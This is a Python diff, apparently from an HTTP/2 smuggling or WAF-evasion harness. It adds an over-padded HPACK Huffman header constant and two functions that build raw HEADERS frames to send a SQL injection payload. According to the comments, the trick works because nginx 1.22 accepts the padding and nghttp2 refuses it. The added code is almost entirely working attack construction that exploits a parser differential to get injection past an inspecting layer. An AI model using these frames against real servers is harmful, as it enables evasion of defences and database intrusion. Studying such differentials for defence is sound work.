@@ -400,6 +400,24 @@ def c_split_writes(p):
     return [(1, p)], [b[k:k + 7] for k in range(0, len(b), 7)]
 
 
+# "aaaaaaaa" Huffman-coded (8 x 00011 = 5 bytes) and a whole byte of
+# ones after it: padding past 7 bits (RFC 7541 5.2), which nghttp2 refuses
+# and nginx 1.22 reads
+OVERPAD = b"\x00\x03x-h\x86\x18\xc6\x31\x8c\x63\xff"
+
+
+def c_huff_pad_next(p):
+    # the over-padded string on a benign stream 1; stream 3 carries it
+    return [(3, p)], [start() + frame(HEADERS, ES | EH, 1, get_block(b"/api/warm", OVERPAD)) +
+                      frame(HEADERS, ES | EH, 3, get_block(p + b"?id=" + SQLI))]
+
+
+def c_huff_pad_same(p):
+    # the over-padded string first in the request's own block (nginx takes
+    # pseudo-headers after it)
+    return [(1, p)], [start() + frame(HEADERS, ES | EH, 1, OVERPAD + get_block(p + b"?id=" + SQLI))]
+
+
 H2C_UP = (b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
           b"HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n")
 
